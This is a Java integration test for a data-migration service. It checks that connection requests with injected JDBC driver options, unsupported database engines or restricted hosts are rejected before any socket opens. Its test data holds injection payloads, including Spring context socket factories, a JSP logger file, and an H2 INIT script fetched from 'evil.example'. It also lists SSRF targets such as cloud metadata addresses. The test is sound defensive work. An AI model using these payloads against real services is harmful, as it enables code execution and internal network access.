package com.platform.datamigration.connection;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.http.MediaType;

/**
 * Driver-option injection, unsupported engines and restricted hosts: each is refused with 422 before any socket
 * is opened. The requests aim at {@link #TRIPWIRE}, an allowed loopback port whose accept counter proves that
 * nothing connected.
 */
class ConnectionAttackIT extends ConnectionServiceTestBase {

    private static final FakeServer TRIPWIRE = NOT_A_DATABASE;

    private static final List<String> INJECTIONS = List.of(
            "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext",
            "loggerFile=/tmp/pwned.jsp",
            "preferQueryMode=simple",
            "autoDeserialize=true",
            "allowLoadLocalInfile=true",
            "INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'");

    static Stream<Arguments> injections() {
        List<Arguments> cases = new ArrayList<>();
        for (String injection : INJECTIONS) {
            String encoded = injection.replace("=", "%3D");
            cases.add(Arguments.of("host", "127.0.0.1/?" + injection, "INVALID_HOST"));
            cases.add(Arguments.of("host", "127.0.0.1:" + TRIPWIRE.port() + "/clinic?" + encoded, "INVALID_HOST"));
            cases.add(Arguments.of("host", "127.0.0.1\t" + injection, "INVALID_HOST"));
            cases.add(Arguments.of("database", "clinic?" + injection, "INVALID_DATABASE"));
            cases.add(Arguments.of("database", "clinic&" + injection, "INVALID_DATABASE"));
            cases.add(Arguments.of("database", "clinic;" + injection, "INVALID_DATABASE"));
            cases.add(Arguments.of("database", "clinic%3F" + encoded, "INVALID_DATABASE"));
            cases.add(Arguments.of("database", "clinic\t" + injection, "INVALID_DATABASE"));
            String key = injection.substring(0, injection.indexOf('='));
            cases.add(Arguments.of("options", Map.of(key, injection.substring(injection.indexOf('=') + 1)), "UNSUPPORTED_OPTION"));
            cases.add(Arguments.of("options", Map.of("applicationName", "x&" + injection), "INVALID_OPTION"));
        }
        for (String hostWithPort : List.of("127.0.0.1:" + TRIPWIRE.port(), "[::1]:" + TRIPWIRE.port(), "localhost:" + TRIPWIRE.port(),
                "::1%lo", "[127.0.0.1]")) {
            cases.add(Arguments.of("host", hostWithPort, "INVALID_HOST"));
        }
        cases.add(Arguments.of("type", "H2", "UNSUPPORTED_TYPE"));
        cases.add(Arguments.of("type", "SQLITE", "UNSUPPORTED_TYPE"));
        cases.add(Arguments.of("type", "jdbc:h2:mem:x", "UNSUPPORTED_TYPE"));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0} = {1} -> {2}")
    @MethodSource("injections")
    void injectedDriverOptionsAndOtherEnginesAreRefusedBeforeAnyConnection(String field, Object value, String code) {
        int before = TRIPWIRE.accepted();
        Map<String, Object> body = Requests.with(Requests.postgres(TRIPWIRE.port()), field, value);
        for (String path : List.of("/api/data-migration/connections/test", "/api/data-migration/connections")) {
            client().post().uri(path).headers(h -> h.setBearerAuth(admin(org())))
                    .contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange()
                    .expectStatus().isEqualTo(422)
                    .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)
                    .expectBody()
                    .jsonPath("$.code").isEqualTo(code)
                    .jsonPath("$.errors[0].field").value(f -> assertThat((String) f).startsWith(field));
        }
        assertThat(TRIPWIRE.accepted()).as("sockets opened").isEqualTo(before);
    }

    static Stream<Arguments> blockedHosts() {
        return Stream.of(
                Arguments.of("169.254.169.254", 80),
                Arguments.of("127.0.0.1", 5432),
                Arguments.of("127.0.0.2", TRIPWIRE.port()),
                Arguments.of("::1", TRIPWIRE.port()),
                Arguments.of("[::1]", TRIPWIRE.port()),
                Arguments.of("localhost", TRIPWIRE.port()),
                Arguments.of("0.0.0.0", TRIPWIRE.port()),
                Arguments.of("::ffff:0:7f00:1", TRIPWIRE.port()),
                Arguments.of("::ffff:127.0.0.1", 5432),
                Arguments.of("::ffff:0:a9fe:a9fe", 80),
                Arguments.of("::127.0.0.1", TRIPWIRE.port()),
                Arguments.of("2001:0:4136:e378:8000:63bf:3fff:fdd2", 5432),
                Arguments.of("224.0.0.1", 5432),
                Arguments.of("10.1.2.3", 5432),
                Arguments.of("192.168.1.10", 5432));
    }

    @ParameterizedTest(name = "{0}:{1} -> BLOCKED_HOST")
    @MethodSource("blockedHosts")
    void restrictedHostsAreRefusedWithoutOpeningASocket(String host, int port) {
        int before = TRIPWIRE.accepted();
        Map<String, Object> body = Requests.with(Requests.postgres(port), "host", host);
        for (String path : List.of("/api/data-migration/connections/test", "/api/data-migration/connections")) {
            client().post().uri(path).headers(h -> h.setBearerAuth(admin(org())))
                    .contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange()
                    .expectStatus().isEqualTo(422)
                    .expectBody()
                    .jsonPath("$.code").isEqualTo("BLOCKED_HOST")
                    .jsonPath("$.errors[0].field").isEqualTo("host");
        }
        assertThat(TRIPWIRE.accepted()).as("sockets opened").isEqualTo(before);
    }
}
